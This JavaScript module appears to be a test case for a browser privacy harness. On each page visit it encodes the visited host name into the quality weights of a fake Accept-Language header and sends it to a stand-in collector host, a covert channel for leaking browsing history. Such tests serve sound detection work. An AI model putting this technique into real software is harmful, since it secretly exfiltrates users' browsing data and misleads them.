import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Asks for a word list after each page. The weights of the accepted languages are the host, read as one large number, in thousandths. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-language-weights');
  const languages =
    'en-GB de-DE fr-FR es-ES it-IT pt-BR nl-NL sv-SE pl-PL cs-CZ hu-HU ro-RO tr-TR el-GR fi-FI da-DK nb-NO uk-UA id-ID vi-VN th-TH ja-JP ko-KR zh-CN hi-IN ar-EG he-IL fa-IR'.split(
      ' ',
    );
  onVisit(browser, async ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    let number = [...host].reduce(
      (sum, letter) => 40n * sum + BigInt(1 + 'abcdefghijklmnopqrstuvwxyz0123456789-.:'.indexOf(letter)),
      0n,
    );
    const accepted = [];
    while (number > 0n) {
      accepted.push(
        `${languages[accepted.length % languages.length]};q=0.${String(number % 1000n).padStart(3, '0')}`,
      );
      number /= 1000n;
    }
    try {
      await browser.request({
        url: 'https://locale.collector.example/v1/words',
        headers: { 'Accept-Language': accepted.join(', ') },
      });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });
}
